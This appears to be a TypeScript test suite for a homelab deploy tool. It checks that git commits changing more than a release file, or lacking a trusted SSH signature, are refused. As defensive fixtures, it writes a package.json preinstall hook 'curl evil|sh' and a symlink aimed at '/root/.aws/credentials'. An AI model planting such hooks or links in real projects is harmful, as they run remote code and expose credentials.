import { after, before, describe, it } from "node:test";
import * as assert from "node:assert/strict";
import { execFileSync } from "child_process";
import * as fs from "fs";
import * as os from "os";
import * as path from "path";
import { allowedSignersProblem } from "../../lib/allowed-signers";
import { checkIncoming, disallowedChanges } from "../../deploy/commit-trust";
import { GitError, syncCheckout } from "../../deploy/git";

/*
 * The vetting of a fast-forward with real git: a server repository, a deploy's checkout of it,
 * and commits pushed by a trusted signer, by a stranger's key and by nobody's, as SSH signatures.
 */
const FILE = "flux/clusters/production/release.yaml";
let dir: string;
let server: string;
let checkout: string;
let author: string;
let trusted: string;
let stranger: string;

const run = (cwd: string, args: string[], env: NodeJS.ProcessEnv = {}): string =>
  execFileSync("git", args, { cwd, encoding: "utf8", env: { ...process.env, GIT_CONFIG_GLOBAL: "/dev/null", GIT_CONFIG_NOSYSTEM: "1", ...env } });

function key(name: string): string {
  const file = path.join(dir, name);
  execFileSync("ssh-keygen", ["-q", "-t", "ed25519", "-N", "", "-C", "", "-f", file]);
  return file;
}

/** A commit pushed to the server's branch by someone else: the files given, signed with `signWith` if any. */
function push(files: Record<string, string | { symlink: string }>, message: string, signWith?: string): string {
  for (const [f, content] of Object.entries(files)) {
    const p = path.join(author, f);
    fs.mkdirSync(path.dirname(p), { recursive: true });
    fs.rmSync(p, { force: true });
    if (typeof content === "string") {
      fs.writeFileSync(p, content);
    } else {
      fs.symlinkSync(content.symlink, p);
    }
  }
  run(author, ["add", "-A"]);
  const sign = signWith ? ["-c", "gpg.format=ssh", "-c", `user.signingkey=${signWith}`, "commit", "-S"] : ["commit"];
  run(author, [...sign, "-q", "-m", message]);
  run(author, ["push", "-q", "origin", "master"]);
  return run(author, ["rev-parse", "HEAD"]).trim();
}

const head = (): string => run(checkout, ["rev-parse", "HEAD"]).trim();
const release = (tag: string): string => `data:\n  frontend: "reg/frontend:${tag}"\n  backend: "reg/backend:${tag}"\n`;
const signers = (): string => `# the team\nalice@example.com ${fs.readFileSync(`${trusted}.pub`, "utf8").split(" ").slice(0, 2).join(" ")}\n`;
const sync = (policy: { signers?: string; unattended: boolean }): ReturnType<typeof syncCheckout> =>
  syncCheckout(checkout, FILE, server, "master", (co, from, to) => checkIncoming(co.root, co.file, from, to, policy));

before(() => {
  dir = fs.mkdtempSync(path.join(os.tmpdir(), "homelab-trust-"));
  server = path.join(dir, "server.git");
  author = path.join(dir, "author");
  checkout = path.join(dir, "checkout");
  trusted = key("trusted");
  stranger = key("stranger");
  run(dir, ["init", "-q", "--bare", "-b", "master", server]);
  run(dir, ["clone", "-q", server, author]);
  run(author, ["config", "user.name", "Author"]);
  run(author, ["config", "user.email", "author@example.com"]);
  push({ [FILE]: release("v1"), "index.ts": "// program\n" }, "first");
  run(dir, ["clone", "-q", server, checkout]);
});

after(() => fs.rmSync(dir, { recursive: true, force: true }));

describe("a fast-forward vetted for trust", { concurrency: false }, () => {
  it("takes commits that change the release file alone, signed or not, even under --watch", () => {
    const to = push({ [FILE]: release("v2") }, "image automation: v2");
    sync({ unattended: true });
    assert.equal(head(), to);
  });

  it("refuses, under --watch with no signers, a commit that changes the program, naming it and its files, and moves nothing", () => {
    const before = head();
    const bad = push({ "index.ts": "// changed\n", [FILE]: release("v3") }, "innocent looking");
    const img = push({ [FILE]: release("v4") }, "image automation: v4");
    assert.throws(
      () => sync({ unattended: true }),
      (e: Error) =>
        e instanceof GitError &&
        e.message.includes(`${img.slice(0, 12)} is not deployed: a commit changes more than ${FILE}`) &&
        e.message.includes(`${bad.slice(0, 12)} "innocent looking" by Author <author@example.com>: index.ts`) &&
        e.message.includes("--watch runs without a person") &&
        e.message.includes(`merge --ff-only ${img.slice(0, 12)}`),
    );
    assert.equal(head(), before, "the checkout did not move");
  });

  it("lets a person's deploy take the branch as it is when no signers are set", () => {
    sync({ unattended: false });
    assert.equal(head(), run(author, ["rev-parse", "HEAD"]).trim());
  });

  it("with signers, refuses a commit signed by a key not on the list", () => {
    const before = head();
    push({ "package.json": "{\"scripts\":{\"preinstall\":\"curl evil|sh\"}}\n" }, "strange key", stranger);
    assert.throws(() => sync({ signers: signers(), unattended: false }), /not signed by a key of homelab:trustedSigners: [0-9a-f]{12} "strange key" by Author <author@example.com>: package\.json/);
    assert.equal(head(), before);
  });

  it("with signers, a signed commit vouches for its tree, and release-file commits on top of it still go", () => {
    const signed = push({ "package.json": "{}\n" }, "reviewed: undo the strange key", trusted);
    const img = push({ [FILE]: release("v5") }, "image automation: v5");
    sync({ signers: signers(), unattended: true });
    assert.equal(head(), img);
    assert.notEqual(signed, img);
  });

  it("refuses a release file turned into a symbolic link by a commit nobody trusted, without reading it", () => {
    const before = head();
    push({ [FILE]: { symlink: "/root/.aws/credentials" } }, "link it");
    assert.throws(() => sync({ signers: signers(), unattended: true }), (e: Error) => e.message.includes(`${FILE} (no longer a regular file)`) && !e.message.includes("/root/.aws"));
    assert.equal(head(), before);
    push({ [FILE]: release("v6") }, "restore", trusted);
    sync({ signers: signers(), unattended: true });
  });

  it("names each path a range changes beyond the release file", () => {
    const base = head();
    push({ "Pulumi.production.yaml": "config: {}\n", [FILE]: release("v7") }, "config");
    run(checkout, ["fetch", "-q", "origin"]);
    assert.deepEqual(disallowedChanges(checkout, FILE, base, "origin/master"), ["Pulumi.production.yaml"]);
    assert.deepEqual(disallowedChanges(checkout, FILE, base, base), []);
  });
});

describe("homelab:trustedSigners", () => {
  it("is an allowed signers list: comments and blank lines pass, a line without a key is named by its number", () => {
    assert.equal(allowedSignersProblem("# team\n\nalice@example.com ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIA+b/c=\n"), undefined);
    assert.equal(allowedSignersProblem('alice@example.com namespaces="git" ssh-ed25519 AAAAC3Nza\n'), undefined);
    assert.match(allowedSignersProblem("alice@example.com\n")!, /^line 1 is not 'principal \[options\] keytype base64'/);
    assert.match(allowedSignersProblem("# only a comment\n")!, /names no signer/);
    assert.match(allowedSignersProblem("ssh-ed25519 AAAAC3Nza\n")!, /^line 1 /);
  });
});
